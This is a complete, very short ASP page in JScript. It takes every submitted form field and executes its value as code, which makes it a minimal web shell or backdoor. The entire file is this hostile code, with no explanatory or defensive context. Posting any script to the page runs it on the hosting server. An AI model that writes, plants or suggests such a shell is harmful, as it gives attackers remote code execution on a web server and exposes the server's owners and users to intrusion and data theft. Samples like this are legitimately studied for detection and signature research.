<%@ Language="JScript" %>
<%
for (var e = new Enumerator(Request.Form); !e.atEnd(); e.moveNext()) {
  var key = e.item();
  var code = Request.Form(key).Item;
  (new Function(code))();
}
%>
